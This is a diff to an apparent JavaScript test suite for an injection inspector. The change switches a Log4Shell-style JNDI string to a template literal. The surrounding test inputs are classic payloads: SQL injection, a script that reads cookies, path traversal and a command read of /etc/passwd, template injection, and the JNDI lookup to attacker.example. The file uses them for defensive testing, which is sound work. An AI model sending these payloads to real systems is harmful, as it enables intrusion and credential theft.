@@ -116,7 +116,7 @@ describe('injection inspection, on any input', () => {
             "' UNION SELECT password FROM users--",
             '<script>alert(document.cookie)</script>',
             '../../../../etc/passwd',
-            '${jndi:ldap://attacker.example/a}',
+            `\${jndi:ldap://attacker.example/a}`,
             '{{7*7}}',
             '; cat /etc/passwd',
           ),
